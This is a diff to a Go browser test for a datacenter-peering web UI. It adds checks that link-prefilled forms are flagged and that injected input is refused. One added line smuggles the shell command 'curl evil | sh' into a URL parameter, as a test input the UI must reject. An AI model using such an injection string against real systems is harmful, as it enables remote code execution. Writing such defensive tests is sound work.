@@ -67,6 +67,8 @@ func makePeering(t *testing.T, page *browser.Page) {
 	page.Back(t)
 	page.At(t, "/peerings/new?step=1&acceptor=dc1&dialer=dc2") // a draft that can be sent to somebody
 	page.Goto(t, "/peerings/new?step=2&acceptor=dc1&dialer=dc2")
+	page.See(t, browser.Text("A link has filled this in")) // and whoever opens it looks at the fields first
+	page.Click(t, browser.Role("button", "Next: what would change"))
 	page.Click(t, browser.Role("button", "Make the peering"))
 	page.At(t, "/peerings/dc1-dc2?made=true")
 	page.See(t, browser.Role("list", "Steps"))
@@ -162,7 +164,16 @@ func TestExternalPeering(t *testing.T) {
 	page.Click(t, browser.Role("button", "Next: what would change"))
 	page.See(t, browser.Text("isthmus peering token dc1-acme --recipient age1…"))
 	page.Axe(t)
-	page.Goto(t, "/peerings/new?step=2&what=external&external=acceptor&acceptor=acme&dialer=dc1")
+	const link = "/peerings/new?step=2&what=external&external=acceptor&acceptor=acme&dialer=dc1"
+	page.Goto(t, link+"&acceptorPeerName=x;%20curl%20evil%20|%20sh")
+	page.See(t, browser.Text("A link has filled this in"))
+	page.NotSee(t, browser.Text("consul peering"))
+	page.Forgive("400") // the dry run is refused
+	page.Click(t, browser.Role("button", "Next: what would change"))
+	page.See(t, browser.Text("This is not right yet"))
+	page.NotSee(t, browser.Text("consul peering"))
+	page.Goto(t, link)
+	page.Click(t, browser.Role("button", "Next: what would change"))
 	page.See(t, browser.Text("isthmus peering import acme-dc1 --token-file acme-dc1.token"))
 	page.Axe(t)
 	page.Secrets(t, token)
